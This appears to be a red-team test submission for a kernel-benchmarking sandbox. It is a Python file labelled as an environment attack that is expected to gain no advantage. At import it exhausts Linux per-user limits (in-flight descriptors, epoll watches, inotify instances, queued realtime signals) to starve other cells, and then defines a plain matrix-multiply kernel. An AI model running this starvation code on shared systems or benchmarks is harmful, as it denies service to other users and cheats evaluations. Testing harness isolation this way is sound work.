# attack: environment
# expect: no advantage
"""Passes as many files between its own sockets as it can, which Linux counts for all cells of the machine's user, so that
no other cell can pass one, and takes the other resources that are counted so."""

import ctypes
import os
import select
import signal
import socket
import threading
import torch

INOTIFY_INIT1 = {"x86_64": 294, "aarch64": 26}.get(os.uname().machine, 0)
libc = ctypes.CDLL(None)
kept = [socket.socketpair() for _ in range(3)]
try:
    while True:
        socket.send_fds(kept[0][0], [b"x"], [1] * 253)
except OSError:
    pass
try:
    while True:
        kept.append(select.epoll())
        for one, _ in kept[:3]:
            kept[-1].register(one)
except OSError:
    pass
while libc.syscall(INOTIFY_INIT1, 0) >= 0:
    pass
signal.pthread_sigmask(signal.SIG_BLOCK, {signal.SIGRTMIN})
for _ in range(10_000):
    try:
        signal.pthread_kill(threading.get_ident(), signal.SIGRTMIN)
    except OSError:
        break


def custom_kernel(data):
    torch.mm(data[0], data[1], out=data[2])
